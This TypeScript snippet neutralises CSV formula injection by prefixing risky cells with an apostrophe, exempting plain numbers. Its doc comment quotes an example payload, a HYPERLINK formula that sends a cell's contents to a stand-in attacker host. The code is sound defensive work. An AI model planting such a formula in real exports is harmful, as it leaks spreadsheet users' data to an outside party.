/**
 * CSV formula injection (OWASP "CSV Injection"): Excel, Numbers and LibreOffice run a cell
 * that starts with `=`, `+`, `-` or `@` as a formula (and a leading tab or carriage return
 * can hide one), so ad text or OCR text like `=HYPERLINK("http://evil.example/?"&A1)` would
 * run when the export is opened. Such cells get a leading `'`, which spreadsheets show as
 * text. Only CSV needs this: JSON and JSONL are read by programs and stay byte-exact.
 *
 * A plain number (`-5`, `+3.5`, `-1e3`) cannot be a formula and stays a number, so numeric
 * input columns and `_vision_time` keep their type. Re-importing an export keeps the `'`
 * in the neutralised text cells.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

export function neutralizeFormula(value: string): string {
  return FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}
